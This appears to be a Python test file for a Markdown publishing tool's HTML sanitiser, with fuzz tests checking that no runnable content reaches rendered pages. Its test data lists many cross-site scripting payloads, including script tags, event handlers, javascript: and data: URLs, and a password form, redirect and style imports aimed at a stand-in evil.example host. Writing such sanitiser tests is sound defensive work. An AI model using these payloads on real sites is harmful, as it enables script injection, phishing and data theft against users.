from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from placet.content.document import read_document
from placet.content.markup import removed, tags
from placet.content.page import BEGIN, END, page, written_part
from placet.content.rendering import parse
from placet.content.sanitising import EMPTIED, TAGS, is_allowed, sanitised
from tests.content.made import body_of, found, published

# What Markdown takes for text is text: it stands on the page as it was written.
HARMLESS = [
    "<img src=x onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<javascript alert(1)",
    "[x](<java\tscript:alert(1)>)",
    "</main></body></html>",
]
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    '<img src="pic.png" OnLoad="alert(1)" alt="x">',
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "</main></body></html><script>alert(1)</script>",
    "<a href='#' autofocus onfocus=alert(1) tabindex=1>x</a>",
    "<h2 id='x' onclick='alert(1)'>x</h2>",
]


class Seen(HTMLParser):
    """Reads a page with another parser than made it, and notes all that could run."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Hold a tag against the lists."""
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            known = is_allowed(tag, name) or name in {"class", "rel"}
            address = (value or "").strip().lower()
            fine = address.startswith(("https:", "http:", "mailto:", "tel:", "#", "/", "files/"))
            if not known or (name in {"href", "src"} and not fine):
                self.wrong.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        """Note a comment, which some browsers of old run."""
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        """Note a declaration."""
        self.wrong.append(decl)


def made(text: str) -> str:
    """Render a text; it has no files."""
    document = read_document(f"x\n\n{text}".encode(), "index.md")
    content = page(parse(document), title="t", language="en", summary=None, assets={})
    assert content.count(BEGIN.encode()) == content.count(END.encode()) == 1
    return written_part(content)


@pytest.mark.rule(number=12)
@pytest.mark.parametrize("attack", ATTACKS + HARMLESS)
def test_nothing_that_runs_gets_into_a_page(attack: str) -> None:
    assert Seen(made(attack)).wrong == []


@pytest.mark.parametrize("attack", [each for each in ATTACKS if not each.startswith("<!--")])
async def test_what_is_taken_out_is_reported(attack: str, tmp_path: Path) -> None:
    front = "---\ntitle: t\nrequester: alice@example.com\n---\n"
    kinds = {kind for _, kind in found(await published(tmp_path, f"{front}x\n\n{attack}\n"))}
    assert kinds & {"active-content", "removed-markup"}


PIECES = st.sampled_from(
    [
        *("<", ">", '"', "'", "=", "/", " ", "\n", "\t", "&", "#", ";", "!--", "--", "`", "[", "]"),
        *("(", ")", "!", "javascript:", "data:", "&#x6a;", "\\", "//evil.example", "pic.png"),
        *(f"<{tag}" for tag in sorted(TAGS | EMPTIED | {"form", "input", "video", "body"})),
        *(f"</{tag}>" for tag in sorted(TAGS | EMPTIED | {"main", "body"})),
        *(" onerror=", " onload=", " href=", " src=", " style=", " id=", " class=", " srcdoc="),
        *("alert(1)", "x", "a b", "é", "\N{RIGHT-TO-LEFT OVERRIDE}", "](", "<![CDATA[", "]]>"),
    ]
)


@pytest.mark.rule(number=12)
@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_no_text_at_all_makes_a_page_that_runs(text: str) -> None:
    assert Seen(made(text)).wrong == []


@settings(max_examples=200, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_sanitising_twice_changes_nothing(html: str) -> None:
    once = sanitised(html, lambda _, __, value: value)
    assert sanitised(once, lambda _, __, value: value) == once


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_text_can_be_looked_through(source: str) -> None:
    lines = source.count("\n") + 1
    for tag in tags(source):
        assert 1 <= tag.line <= lines
        assert list(removed(tag)) is not None


async def test_harmless_html_stays(tmp_path: Path) -> None:
    text = (
        "---\ntitle: t\nrequester: alice@example.com\n---\n"
        '<figure><img src="pic.png" alt="A taxi"><figcaption>Ours</figcaption></figure>\n\n'
        '<details open><summary>More</summary><p lang="de" dir="ltr">Mehr</p></details>\n\n'
        'H<sub>2</sub>O, <kbd>Ctrl</kbd>, <abbr title="for example">e.g.</abbr>\n'
    )
    picture = (Path(__file__).parents[2] / "examples" / "receipts" / "taxi.png").read_bytes()
    result = await published(tmp_path, text, {"pic.png": picture})
    assert result.findings == ()
    body = body_of(result)
    for kept in ("<figcaption>Ours", "<details open", '<p lang="de" dir="ltr">', "H<sub>2</sub>O"):
        assert kept in body
